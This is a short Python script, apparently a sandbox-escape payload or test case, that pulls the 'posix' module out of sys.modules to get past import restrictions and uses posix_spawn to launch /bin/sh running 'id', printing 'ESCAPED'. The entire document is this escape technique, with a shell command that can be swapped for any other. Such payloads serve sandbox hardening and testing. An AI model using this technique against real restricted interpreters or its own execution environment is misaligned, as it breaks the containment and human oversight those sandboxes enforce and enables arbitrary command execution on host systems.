import sys
posix = sys.modules["posix"]
print("ESCAPED", posix.posix_spawn("/bin/sh", ["sh", "-c", "id"], {}))
